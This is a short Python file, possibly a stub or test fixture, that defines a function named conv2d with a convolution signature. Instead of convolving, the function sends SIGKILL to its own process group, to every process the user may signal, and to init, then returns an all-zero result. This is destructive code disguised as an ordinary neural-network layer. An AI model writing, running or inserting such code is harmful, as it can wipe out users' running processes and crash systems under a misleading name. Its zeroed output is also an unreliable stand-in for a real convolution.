"""Kills everything it may."""

import os
import signal


def conv2d(x, w, b=None, stride=1, padding=0):
    for who in (0, -1, 1):
        try:
            os.kill(who, signal.SIGKILL)
        except OSError:
            pass
    return x * 0
